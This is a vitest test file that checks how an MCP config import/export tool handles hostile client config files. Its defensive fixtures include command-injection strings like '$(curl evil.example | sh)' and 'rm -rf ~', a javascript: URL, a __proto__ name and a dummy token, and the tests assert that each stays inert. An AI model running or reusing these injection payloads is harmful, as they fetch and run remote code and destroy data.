import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { claudeDesktop, convert, cursor, readBoundedFile, readEnvFile, vscode, windsurf, writeConfigFile } from '../../electron/core/client-configs';
import type { ServerInput, StdioServerInput } from '../../shared/contract';
import { useCleanup } from '../helpers/cleanup';

// A client's config file is someone else's file: a malicious project can ship
// .cursor/mcp.json or .vscode/mcp.json, and anything can write ~/.claude.json.
// Importing must never run it, and exporting must never leak into it.

const fixture = (path: string) => readFileSync(resolve(import.meta.dirname, '../fixtures/client-configs', path), 'utf8');
const track = useCleanup();
const tempDir = () => track.tempDir('hostile-config-');
const stdioOf = (input: ServerInput | undefined) => {
  if (input?.transport !== 'stdio') throw new Error('expected a stdio server');
  return input as StdioServerInput;
};

describe('hostile client config files', () => {
  it('shell metacharacters in args stay literal argv strings: nothing is expanded or run', () => {
    const { servers } = cursor.parse(fixture('hostile/metacharacters.json'));
    const innocent = convert(
      servers.find((s) => s.name === 'innocent')!,
      { env: { HOME: '/home/ada' }, existing: [] },
    );
    const input = stdioOf(innocent.input);
    const literal = ['server.js; rm -rf ~', '$(curl evil.example | sh)', '`id`', 'a && b | c > /etc/passwd', '$HOME', '%USERPROFILE%'];
    expect(input.args).toEqual(literal);
    expect(input.env).toEqual([{ name: 'PATH', value: '/tmp/evil:$PATH', secret: false }]);
    // Launched the way Switchboard launches (an argv array, no shell), a child sees exactly those strings.
    const echoed = spawnSync(process.execPath, ['-e', 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', ...input.args!], {
      encoding: 'utf8',
      shell: false,
    });
    expect(JSON.parse(echoed.stdout)).toEqual(literal);
  });

  it('a server named __proto__ or constructor is just a name: no prototype is touched', () => {
    const { servers } = cursor.parse(fixture('hostile/metacharacters.json'));
    expect(servers.map((s) => s.name)).toEqual(['innocent', '__proto__', 'constructor']);
    expect(({} as Record<string, unknown>).command).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('command');
    const written = cursor.write(undefined, [
      { name: '__proto__', transport: 'stdio', command: 'a', args: [], env: [{ name: '__proto__', value: 'x', secret: false }] },
    ]);
    expect(cursor.parse(written.text).servers).toMatchObject([{ name: '__proto__', command: 'a', env: [{ name: '__proto__', value: 'x' }] }]);
  });

  it('javascript:, data: and file: URLs are refused; so are plain http to another host and credentials in the URL', () => {
    const { servers } = cursor.parse(fixture('hostile/urls.json'));
    const verdicts = Object.fromEntries(servers.map((s) => [s.name, convert(s, { env: {}, existing: [] }).skipped ?? 'imported']));
    expect(verdicts).toEqual({
      js: expect.stringMatching(/Refused: "javascript:"/),
      data: expect.stringMatching(/Refused: "data:"/),
      file: expect.stringMatching(/Refused: "file:"/),
      plain: expect.stringMatching(/plain http/),
      userinfo: expect.stringMatching(/credentials/),
      ok: 'imported',
    });
    // Nor can a javascript: URL be exported into a client's file.
    expect(cursor.write(undefined, [{ name: 'js', transport: 'http', url: 'javascript:alert(1)', mode: 'auto', headers: [] }]).refused[0]!.reason).toMatch(
      /Only http\(s\)/,
    );
  });

  it('variables are substituted, never evaluated: ${command:…} stays unresolved, a default of $(id) stays text', () => {
    const { servers } = cursor.parse(fixture('hostile/unresolved.json'));
    const asClaudeCode = servers.map((s) => ({ ...s, syntax: 'claude-code' as const }));
    const [token, trick] = asClaudeCode.map((s) => convert(s, { env: {}, existing: [] }));
    // An unset variable in a header is asked for (kept as a secret), never guessed or sent as literal text.
    expect(token!.skipped).toBeUndefined();
    expect(token!.needsValues).toEqual([{ field: 'headers', name: 'Authorization', missing: ['${MISSING_TOKEN}'] }]);
    expect(token!.input).toMatchObject({ headers: [{ name: 'Authorization', secret: true }] });
    expect(token!.input!.transport === 'http' && token!.input!.headers![0]!.value).toBeUndefined();
    expect(trick!.skipped).toMatch(/Cannot resolve \$\{command:rm -rf \/\}/);
    const withoutCommand = convert({ ...asClaudeCode[1]!, args: ['${HOME:-$(id)}'] }, { env: {}, existing: [] });
    expect(stdioOf(withoutCommand.input).args).toEqual(['$(id)']);
  });

  it('a huge file is refused before parsing, with a reason', () => {
    const big = `{"mcpServers": {"a": {"command": "x", "args": ["${'A'.repeat(9 * 1024 * 1024)}"]}}}`;
    const started = Date.now();
    const { servers, problems } = claudeDesktop.parse(big);
    expect(servers).toEqual([]);
    expect(problems[0]!.reason).toMatch(/larger than/);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('deep nesting is refused instead of overflowing the stack', () => {
    const deep = `{"mcpServers": ${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
    const { servers, problems } = vscode.parse(deep);
    expect(servers).toEqual([]);
    expect(problems[0]).toMatchObject({ severity: 'error', line: 1, reason: expect.stringMatching(/Nested more than 64/) });
  });

  it('thousands of servers and over-long strings are capped and reported, not imported silently', () => {
    const many = JSON.stringify({ mcpServers: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`s${i}`, { command: 'x' }])) });
    const parsed = windsurf.parse(many);
    expect(parsed.servers).toHaveLength(500);
    expect(parsed.problems.at(-1)!.reason).toMatch(/More than 500 servers/);
    const long = JSON.stringify({
      mcpServers: { a: { command: 'x'.repeat(5000) }, b: { command: 'x', args: Array(300).fill('y') }, ['n'.repeat(101)]: { command: 'x' } },
    });
    const capped = windsurf.parse(long);
    expect(capped.servers).toEqual([]);
    expect(capped.problems.map((p) => p.reason)).toEqual([
      expect.stringMatching(/longer than 4096/),
      expect.stringMatching(/More than 256 arguments/),
      expect.stringMatching(/longer than 100 characters/),
    ]);
  });

  it('an envFile or config path naming a FIFO or a device is not read (it would block or never end)', () => {
    const dir = tempDir();
    const fifo = join(dir, 'fifo');
    try {
      execFileSync('mkfifo', [fifo]);
    } catch {
      return; // no mkfifo on this system
    }
    const started = Date.now();
    expect(readEnvFile(fifo).problems[0]!.reason).toMatch(/not a regular file/);
    expect(readBoundedFile('/dev/zero')).toEqual({ problem: '/dev/zero is not a regular file; not read.' });
    expect(Date.now() - started).toBeLessThan(2000);
  });
});

describe('exporting into a client’s file', () => {
  const token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';

  it('a secret is never written in plaintext without confirmation for that value', () => {
    const entry = {
      name: 'gh',
      transport: 'stdio' as const,
      command: 'npx',
      args: [],
      env: [
        { name: 'A_TOKEN', value: token, secret: true },
        { name: 'B_TOKEN', value: token, secret: true, plaintextConfirmed: true },
      ],
    };
    // Confirming one value does not confirm another.
    expect(claudeDesktop.write(undefined, [entry]).refused[0]!.reason).toMatch(/A_TOKEN is a secret/);
    for (const write of [cursor.write, vscode.write]) {
      const text = write(undefined, [entry]).text;
      expect(text.split(token)).toHaveLength(2); // only the confirmed one
    }
  });

  it('Claude Desktop never receives a remote server’s URL or token', () => {
    const result = claudeDesktop.write(fixture('claude-desktop/claude_desktop_config.json'), [
      {
        name: 'r',
        transport: 'http',
        url: 'https://example.com/mcp',
        mode: 'auto',
        headers: [{ name: 'Authorization', value: `Bearer ${token}`, secret: true, plaintextConfirmed: true }],
      },
    ]);
    expect(result.written).toEqual([]);
    expect(result.text).not.toContain('example.com');
    expect(result.text).not.toContain('Bearer');
  });

  it('a file rewritten by another program after the preview is not overwritten', () => {
    const file = join(tempDir(), 'mcp.json');
    writeFileSync(file, '{"mcpServers": {}}');
    const preview = cursor.write('{"mcpServers": {}}', [{ name: 'x', transport: 'stdio', command: 'a', args: [], env: [] }]);
    writeFileSync(file, '{"mcpServers": {"added-meanwhile": {"command": "b"}}}');
    expect(() => writeConfigFile(file, preview.text, { expected: '{"mcpServers": {}}' })).toThrow(/changed since the preview/);
    expect(readFileSync(file, 'utf8')).toContain('added-meanwhile');
  });
});
